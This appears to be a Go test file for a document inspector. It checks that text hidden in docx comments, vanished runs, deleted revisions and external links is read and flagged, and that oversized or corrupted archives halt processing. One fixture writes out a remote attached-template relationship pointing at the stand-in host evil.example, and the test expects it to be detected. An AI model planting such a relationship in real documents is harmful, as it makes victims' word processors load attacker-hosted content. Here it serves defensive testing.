package dispatch

import (
	"archive/zip"
	"bytes"
	"slices"
	"strings"
	"testing"
)

func docx(t *testing.T, parts map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, content := range parts {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write([]byte(content))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Whatever part of a docx another partner stands in, it is read; what the pages
// do not show is named.
func TestSM38_DocxIsReadWhole(t *testing.T) {
	body := func(s string) string {
		return `<w:document xmlns:w="w"><w:body><w:p>` + s + `</w:p></w:body></w:document>`
	}
	run := func(s string) string { return `<w:r><w:t>` + s + `</w:t></w:r>` }
	for name, c := range map[string]struct {
		part, content, veiled string
	}{
		"body":       {"word/document.xml", body(run("株式会社北") + run("浜電機")), ""},
		"header":     {"word/header1.xml", body(run("株式会社北浜電機")), ""},
		"footer":     {"word/footer2.xml", body(run("株式会社北浜電機")), ""},
		"footnote":   {"word/footnotes.xml", body(run("株式会社北浜電機")), ""},
		"comment":    {"word/comments.xml", `<w:comments xmlns:w="w"><w:comment><w:p>` + run("株式会社北浜電機") + `</w:p></w:comment></w:comments>`, veiledComments},
		"hidden":     {"word/document.xml", body(`<w:r><w:rPr><w:vanish/></w:rPr><w:t>株式会社北浜電機</w:t></w:r>`), veiledText},
		"not hidden": {"word/document.xml", body(`<w:r><w:rPr><w:vanish w:val="false"/></w:rPr><w:t>株式会社北浜電機</w:t></w:r>`), ""},
		"deleted":    {"word/document.xml", body(`<w:del><w:r><w:delText>株式会社北浜電機</w:delText></w:r></w:del>`), veiledDeleted},
		"link":       {"word/_rels/document.xml.rels", `<Relationships><Relationship Type="x/hyperlink" Target="mailto:株式会社北浜電機" TargetMode="External"/></Relationships>`, ""},
		"template":   {"word/_rels/settings.xml.rels", `<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/株式会社北浜電機" TargetMode="External"/></Relationships>`, veiledOutside},
	} {
		o, text := inspectOffice(docx(t, map[string]string{c.part: c.content}))
		if !strings.Contains(text, "株式会社北浜電機") {
			t.Errorf("%s: not read: %q", name, text)
		}
		if got := strings.Join(o.Veiled, " "); got != c.veiled || o.Cut {
			t.Errorf("%s: %q, want %q; cut: %v", name, got, c.veiled, o.Cut)
		}
	}
	if _, text := inspectOffice(docx(t, map[string]string{"word/document.xml": body(run("青葉") + `<w:r><w:tab/></w:r>` + run("北浜"))})); !strings.Contains(text, "青葉 北浜") {
		t.Errorf("a tab joins words: %q", text)
	}
}

// One that grows beyond the bounds, or is broken, stops.
func TestSM38_DocxBeyondTheBoundsStops(t *testing.T) {
	big := docx(t, map[string]string{"word/a.xml": "<a>" + strings.Repeat("x", officeBytes), "word/b.xml": "<a>北浜</a>"})
	good := docx(t, map[string]string{"word/document.xml": "<a>" + strings.Repeat("青葉", 100) + "</a>"})
	broken := bytes.Clone(good)
	for i := 40; i < 60; i++ {
		broken[i] ^= 0xff
	}
	for name, b := range map[string][]byte{"too big": big, "cut off": good[:len(good)/2], "broken": broken} {
		o, _ := inspectOffice(b)
		found := officeVeiled(Facts{Files: []FileFact{{Item: "f", Name: "a.docx", Office: o}}})
		if !slices.ContainsFunc(found, func(x Finding) bool { return x.Level == Halt && x.Key == "dispatch.found.office_cut" }) {
			t.Errorf("%s passes: %+v", name, found)
		}
	}
	if o, _ := inspectOffice(good); o.Cut {
		t.Error("a good one stops")
	}
}
